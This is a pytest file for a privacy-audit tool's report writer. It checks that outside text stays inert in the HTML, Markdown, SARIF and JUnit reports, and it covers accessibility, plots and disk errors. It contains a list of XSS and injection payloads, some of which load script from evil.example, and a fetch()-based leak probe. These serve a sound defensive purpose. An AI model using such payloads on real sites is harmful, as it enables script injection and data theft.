"""The report of an audit: what stands in it, and that no text from outside becomes anything but text."""

from __future__ import annotations

import copy
import json
import re
import resource
import shutil
import subprocess
import threading
from collections import Counter
from html import unescape
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from xml.etree import ElementTree

import pytest
from markdown_it import MarkdownIt

from report_fixtures import audit_report, leak, record
from unembed.errors import StorageError
from unembed.privacy import report as package
from unembed.privacy.report import write
from unembed.privacy.report.cleaning import LIMIT, cleaned, visible
from unembed.privacy.report.defences import as_markdown, once, pareto

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
HOSTILE = [
    "<script>alert(1)</script>",
    "</style></title></bdi></svg><script src=http://evil.example/x.js></script>",
    "\"'><img src=http://evil.example/x onerror=alert(1)>",
    "' onmouseover='alert(1)' style='background:url(http://evil.example/x)",
    "javascript:alert(1) http://evil.example WWW.evil.example",
    "![x](http://evil.example/x) [y](javascript:alert(1)) <http://evil.example> @all #1",
    "a|b`c``d*e*__f__~~g~~\\",
    "`|`",
    "one\r\n\r\n# two\n- three\n\n    four\x85five\u2028six",
    "\u202egnp.exe \u2066\u200b\u200d\ufeff\u00ad\x00\x1b[31m\x7f\ud800\ufffe\ue000",
    "{{ 7 * 7 }}{% raw %}{# #}",
    "]]><!-- --> &lt;b&gt; &amp;",
    "شكرا \u05d0\u05d1\u05d2",
    "Z" + "\u0301" * 500,
    "long" * 250_000,
]
STYLE = (Path(package.__file__).parent / "audit.css").read_text(encoding="utf-8")
FIXED = {"severity", "measure"}
NAMED_OUTSIDE = {
    "pii",
    "leaked",
    "controls",
    "length",
    "language",
    "domain",
    "canaries",
    "refused",
    "attackers",
    "config",
}


def poisoned(value, text, key=None):
    """`value` with `text` in the place of every text and of every name that comes from outside."""
    if isinstance(value, str):
        return value if key in FIXED else text
    if isinstance(value, list):
        return [poisoned(item, text) for item in value]
    if not isinstance(value, dict):
        return value
    names = {name: f"{text}{number}" for number, name in enumerate(value)} if key in NAMED_OUTSIDE else {}
    names.pop("any", None)
    return {names.get(name, name): poisoned(item, text, name) for name, item in value.items()}


def written(report, folder):
    return {path.name: path.read_text(encoding="utf-8") for path in write(report, folder)}


class Elements(HTMLParser):
    """The elements of a page with their attributes, and its text."""

    def __init__(self, page):
        super().__init__()
        self.elements, self.text = [], ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.text += data.replace("\N{NO-BREAK SPACE}", " ")

    def tags(self):
        return [tag for tag, _ in self.elements]


def parsed(markdown):
    """The types of what a page of Markdown consists of, and its text."""
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    inline = [child for token in tokens for child in token.children or []]
    text = " ".join("".join(child.content for child in token.children or []) for token in tokens)
    return [token.type for token in (*tokens, *inline) if token.type != "text"], text


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("truth", [True, False], ids=["truth", "no truth"])
def test_hostile_text_stays_text(text, truth, tmp_path):
    """The same elements as with a harmless word in its place, in all four formats."""
    (tmp_path / "plain").mkdir()
    report = audit_report(truth)
    plain, made = written(poisoned(report, "XYZZY"), tmp_path / "plain"), written(poisoned(report, text), tmp_path)
    page, harmless = Elements(made["report.html"]), Elements(plain["report.html"])
    assert page.tags() == harmless.tags()
    assert {"script", "img", "iframe", "object", "embed", "form", "base"}.isdisjoint(page.tags())
    for tag, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on") or name == "style"], tag
        links = [value for name, value in attributes.items() if name in ("href", "src", "action", "xlink:href")]
        assert all(re.fullmatch(r"#part-\d+|data:,", link) for link in links), (tag, links)
    assert re.findall(r"<style>\s*(.*?)\s*</style", made["report.html"], re.S) == [STYLE.strip()]
    types, read = parsed(made["report.md"])
    assert types == parsed(plain["report.md"])[0]
    assert {"link_open", "image", "html_inline", "html_block"}.isdisjoint(types)
    bare = re.sub(r"(`+).*?\1", "", made["report.md"])
    assert not re.search(r"://|www\.", bare, re.IGNORECASE), "GitHub makes links of these by itself"
    if len(text) < LIMIT:  # and it is still what it was
        for shown, usual in ((page.text, harmless.text), (read, parsed(plain["report.md"])[1])):
            assert shown.replace(visible(text), "XYZZY").split() == usual.split()

    for name, text in made.items():
        assert len(text) < 2_000_000, name
        assert not re.search(
            "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\ufffe]", text
        ), name
    cases = ElementTree.fromstring(made["report.junit.xml"]).findall("testcase")
    assert len(cases) == len(report["verdict"]["checks"])
    assert json.loads(made["report.sarif"])["version"] == "2.1.0"


def test_what_cannot_be_seen_is_written_out():
    assert visible("a\u202eb\x00c\ud800d") == "a‹U+202E›b‹U+0000›c‹U+D800›d"
    assert visible("one\r\ntwo\tthree\rfour") == "one ⏎ two three‹U+000D›four"
    assert visible("Ünïcødé, Привет, 你好, שלום, 👍, क्षि, Việt") == "Ünïcødé, Привет, 你好, שלום, 👍, क्षि, Việt"
    assert visible("a" + "\u0301" * 6) == "a" + "\u0301" * 4 + "‹U+0301›" * 2
    assert visible("x" * (LIMIT + 1)) == "x" * LIMIT + f"… ({LIMIT + 1:,} characters)"
    assert cleaned({"\x00": ["\x00", 1, None, {"a": "\x1b"}]}) == {"‹U+0000›": ["‹U+0000›", 1, None, {"a": "‹U+001B›"}]}


def test_the_page_says_what_was_found(tmp_path):
    made = written(audit_report(), tmp_path)
    page = Elements(made["report.html"])
    sentence = (
        "37.6 % of the personal data in 398 sampled texts was read back out of their vectors; the best guess without "
        "inverting them (nearest public text) gets 2.1 %."
    )
    assert sentence in page.text and sentence in made["report.md"]
    assert "lopez" not in made["report.sarif"].lower() + made["report.junit.xml"].lower(), (
        "figures alone go to a CI server"
    )
    for said in (
        "2026-11-22 08:41 UTC",
        "found, k = 10",
        "by chance, k = 1",
        "37.6 % (33.4–41.8), 95 % interval, n = 812; best control, nearest public text: 2.1 % (1.1–3.1)",
        "customer_mail",
        "J. Doe, ticket SEC-1042",
    ):
        assert said in page.text and said in made["report.md"].replace("\\", "")
    marked = re.findall(r"<mark>(.*?)</mark>", made["report.html"])
    assert Counter(marked) == {"maria lopez": 10, "555-0142": 10}, (
        "the leaked strings of the ten records that are shown"
    )
    assert "The 10 worst of 30 records" in page.text
    levels = [int(tag[1]) for tag in page.tags() if re.fullmatch("h[1-6]", tag)]
    assert (
        levels[0] == 1
        and levels.count(1) == 1
        and max(after - before for before, after in zip(levels, levels[1:], strict=False)) == 1
    )
    tables = made["report.html"].count("<table>")
    assert tables == made["report.html"].count("<caption>") >= 9
    assert all(attributes.get("scope") in ("col", "row") for tag, attributes in page.elements if tag == "th")
    plots = [attributes for tag, attributes in page.elements if tag == "svg"]
    ids = Counter(attributes["id"] for _, attributes in page.elements if "id" in attributes)
    assert len(plots) == 3 and max(ids.values()) == 1
    assert all(name in ids for plot in plots for name in plot["aria-labelledby"].split())
    [policy] = [attributes["content"] for _, attributes in page.elements if attributes.get("http-equiv")]
    assert policy.startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:")


def test_without_truth_nothing_is_said_to_be_verified(tmp_path):
    made = written(audit_report(truth=False), tmp_path)
    for name in ("report.html", "report.md"):
        assert "Nothing here is verified" in made[name] and "was read back" not in made[name]
        assert "Personal data</h2>" not in made[name] and "## Personal data" not in made[name]
        assert "Looks like personal data" in made[name] and "Leaked" not in made[name]
    assert json.loads(made["report.sarif"])["runs"][0]["results"][0]["ruleId"] == "unembed/check"
    verified = written(audit_report(), tmp_path)
    assert "Nothing here is verified" not in verified["report.html"] + verified["report.md"]


def test_parts_that_are_missing_are_left_out(tmp_path):
    report = audit_report()
    for name in ("canaries", "defences"):
        report[name] = None
    for name in ("scores", "pii", "controls", "by", "confidence", "config"):
        report[name] = {}
    for name in ("records", "tags", "remediation", "limits"):
        report[name] = []
    report["verdict"]["checks"] = []
    report["target"] |= {"count": None, "fields": [], "refused": {}}
    report["target"]["embedder"]["plausible"] = None
    report["run"]["authorised_by"] = None
    report["headline"]["estimate"] |= {"low": None, "high": None, "n": 1}
    made = written(report, tmp_path)
    parts = re.findall(r"^## (.*)$", made["report.md"], re.M)
    assert parts == ["Threat model", "Target", "Checks", "Run"]
    assert re.findall(r'<h2 id="part-\d+">(.*?)</h2>', made["report.html"]) == parts
    assert "nobody was named" in made["report.md"] and "could not be told" in made["report.md"]
    assert json.loads(made["report.sarif"])["runs"][0]["results"] == []
    assert ElementTree.fromstring(made["report.junit.xml"]).get("tests") == "0"
    for name in ("canaries", "defences", "controls", "by", "tags", "config", "confidence"):
        del report[name]
    assert written(report, tmp_path) == made, "missing is the same as empty"


def test_rows_that_are_all_alike_have_no_interval(tmp_path):
    report = audit_report()
    report["headline"]["estimate"] = {"value": 0.0, "low": 0.0, "high": 0.0, "n": 19}
    page = written(report, tmp_path)["report.md"]
    assert ": 0.0 %, n = 19; best control" in page and "(0.0–0.0)" not in page
    assert "token F1 0.620 (0.580–0.660); best control, nearest public text: 0.200" in page


def test_what_leaked_is_marked_as_whole_words(tmp_path):
    report = audit_report()
    shown = {"ann and Anna; Ann": "Ann", "请致电王伟吧": "王伟", "W███ w███": "W███"}
    report["records"] = [record(0, text=text, leaked={"NAME": [name, ""]}) for text, name in shown.items()]
    assert re.findall("<mark>(.*?)</mark>", written(report, tmp_path)["report.html"]) == ["ann", "Ann", "王伟"]


def test_sarif(tmp_path):
    report = audit_report()
    report["pii"]["IBAN[x](y)"] = {"found": 3, "recall": {"value": 0.5, "low": 0.0, "high": 1.0, "n": 3}}
    report["pii"]["CREDIT_CARD"]["recall"] |= {"value": 0.0, "low": 0.0}
    log = json.loads(written(report, tmp_path)["report.sarif"])
    [run] = log["runs"]
    rules = run["tool"]["driver"]["rules"]
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"] and result["message"]["text"]
        assert result["level"] == "error", "the severity is high"
        assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "report.json"
    found = [result["ruleId"] for result in run["results"]]
    assert found[0] == "unembed/check" and "unembed/pii/PERSON" in found
    assert "unembed/pii/CREDIT_CARD" not in found and "unembed/pii/any" not in found and len(found) == 6
    assert all("OWASP LLM08:2025" in rule["properties"]["tags"] for rule in rules)
    assert {rule["properties"]["security-severity"] for rule in rules} == {"8.0"}
    [link] = [result["message"]["text"] for result in run["results"] if "IBAN" in result["ruleId"]]
    assert "IBAN\\[x\\](y)" in link, "brackets would be a link"
    marks = [result["partialFingerprints"]["primaryLocationLineHash"] for result in run["results"]]
    assert len(set(marks)) == len(marks)
    report["created"], report["config_hash"] = "2026-12-01T00:00:00Z", "other"
    again = json.loads(written(report, tmp_path)["report.sarif"])["runs"][0]["results"]
    assert [result["partialFingerprints"]["primaryLocationLineHash"] for result in again] == marks, (
        "the same findings next week"
    )
    report["verdict"]["severity"] = "medium"
    levels = [result["level"] for result in json.loads(written(report, tmp_path)["report.sarif"])["runs"][0]["results"]]
    assert levels == ["error"] + ["warning"] * 5, "a failed check stays an error"


def test_junit_counts_failures(tmp_path):
    suite = ElementTree.fromstring(written(audit_report(), tmp_path)["report.junit.xml"])
    assert (suite.get("tests"), suite.get("failures"), suite.get("errors")) == ("2", "1", "0")
    failed, passed = suite.findall("testcase")
    assert failed.get("name") == "pii_recall>0.05" and failed.find("failure").get("message").endswith(
        "0.376 was measured"
    )
    assert passed.find("failure") is None


def test_the_front_of_the_defences():
    rows = [
        leak("none", 0, 0, 0, "static", 0.6), leak("a", 1, 0.01, 0.01, "x", 0.7), leak("b", 1, 0.01, 0.02, "x", 0.5),
        leak("c", 1, 0.03, 0.03, "x", 0.5), leak("d", 1, 0.03, 0.03, "x", 0.4), leak("d", 1, 0.1, 0.03, "x", 0.4),
    ]  # fmt: skip
    assert [row["defence"] for row in pareto(rows)] == ["b", "d"], "less than no defence, and than what costs no more"
    assert [(row["defence"], row["allowed"]) for row in once(rows)][-1] == ("d", 0.03) and len(once(rows)) == 5


def test_the_page_of_a_comparison_says_what_each_loss_buys():
    worst = [leak("none", 0, 0, 0, "static", 0.6), leak("a", 1, 0.01, 0.01, "aware", 0.5)]
    matched = [{"defence": name, "allowed": loss, "strength": 1} for name in ("a", "b") for loss in (0.01, 0.1)]
    settings = {
        "corpus": "x", "n": 9, "tokens": 16, "model": "m", "steps": 0, "consensus": 8, "processor": "p", "cores": 2,
        "torch": "2",
    }  # fmt: skip
    page = as_markdown({"settings": settings, "matched": matched, "attackers": {}, "worst": worst, "leaks": worst})
    rows = page.split("## What each loss")[1].split("## The least")[0].splitlines()
    assert [row.replace(" ", "") for row in rows if row.startswith("|")] == [
        "|defence|1%|10%|", "|---|---|---|", "|none|0:0.60(0.56–0.64)static|0:0.60(0.56–0.64)static|",
        "|a|1:0.50(0.46–0.54)aware|–|", "|b|–|–|",
    ]  # fmt: skip
    assert "1. a 1: token F1 0.50 for 1.0 % of nDCG@10 (aware)" in page


@pytest.mark.parametrize("losses", [(0.0, 0.0), (-0.01, -0.01), (-0.01, 0.2), (1.0, 1e-7)])
def test_points_lie_within_the_plot(losses, tmp_path):
    report = audit_report()
    rows = [leak("a", 1, 0.1, losses[0], "static", 0.4), leak("b", 1, 0.1, losses[1], "static", 0.9)]
    report["defences"]["worst"] = [leak("none", 0, 0, 0, "static", 0.3), *rows]
    page = written(report, tmp_path)["report.html"]
    places = re.findall(r'<circle class="(\w+)" cx="(-?[\d.]+)%" cy="(-?[\d.]+)"', page)
    assert [kind for kind, _, _ in places] == ["dot", "dot"], "nothing beats what leaks without any"
    assert all(9 <= float(x) <= 97 and 30 <= float(y) <= 290 for _, x, y in places) and "<ol>" not in page
    assert float(places[0][2]) > float(places[1][2]), "up is more"
    assert (float(places[0][1]) < float(places[1][1])) == (losses[0] < losses[1])


def test_a_full_disk_leaves_what_was_there(tmp_path):
    before = written(audit_report(), tmp_path)
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4000, hard))
    try:
        with pytest.raises(StorageError, match=r"cannot write .*report.html .*free space") as caught:
            write(audit_report(truth=False), tmp_path)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert "\n" not in str(caught.value)
    assert {path.name: path.read_text(encoding="utf-8") for path in tmp_path.iterdir()} == before
    with pytest.raises(StorageError, match="missing"):
        write(audit_report(), tmp_path / "missing")


def test_colours_can_be_read():
    """WCAG 2.2: text has a contrast of 4.5 at least, on the page and its panels, light, dark and printed."""
    palettes = [dict(re.findall(r"--(\w+): (#\w+)", block)) for block in re.findall(r":root \{(.*?)\}", STYLE, re.S)]
    assert len(palettes) == 3

    def luminance(colour):
        digits = colour[1:] if len(colour) == 7 else "".join(2 * digit for digit in colour[1:])
        parts = [int(digits[i : i + 2], 16) / 255 for i in (0, 2, 4)]
        linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    def contrast(a, b):
        bright, dark = sorted((luminance(a), luminance(b)), reverse=True)
        return (bright + 0.05) / (dark + 0.05)

    for palette in palettes:
        for name in ("ink", "soft", "link", "none", "low", "medium", "high", "critical"):
            for ground in ("paper", "panel"):
                assert contrast(palette[name], palette[ground]) >= 4.5, (name, ground, palette)
        assert contrast(palette["ink"], palette["mark"]) >= 4.5 and contrast(palette["paper"], palette["front"]) >= 4.5
        for name in ("bar", "control"):  # shapes
            assert contrast(palette[name], palette["paper"]) >= 3, (name, palette)


@pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium: apt install chromium")
def test_in_a_browser_nothing_is_fetched_and_a_phone_needs_no_scrolling(tmp_path):
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(pages.get(self.path, b""))

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        address = f"http://127.0.0.1:{server.server_port}"
        text = f'"><img src={address}/leak><script>fetch("{address}/leak")</script>' + "unbroken" * 100
        write(poisoned(audit_report(), text), tmp_path)
        # The page in the width of a phone, measured from outside: it has no script of its own.
        frame = (
            '<link rel="icon" href="data:,"><iframe src="/report.html" width="390" height="800"></iframe>'
            '<p id="width"></p>'
            "<script>onload = () => { const page = frames[0].document.documentElement;"
            'document.getElementById("width").textContent = `${page.scrollWidth} of ${page.clientWidth}` }</script>'
        )
        pages = {"/": frame.encode(), "/report.html": (tmp_path / "report.html").read_bytes()}
        threading.Thread(target=server.serve_forever, daemon=True).start()
        command = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        command += [f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", address + "/"]
        done = subprocess.run(command, capture_output=True, text=True, timeout=120)
        server.shutdown()
    [width] = re.findall(r'<p id="width">(.*?)</p>', unescape(done.stdout))
    scrolled, shown = map(int, width.split(" of "))
    assert scrolled <= shown <= 390, "the page is wider than a phone"
    assert asked == ["/", "/report.html"]


def test_a_report_is_not_changed_by_writing_it(tmp_path):
    report = audit_report()
    before = copy.deepcopy(report)
    write(report, tmp_path)
    assert report == before
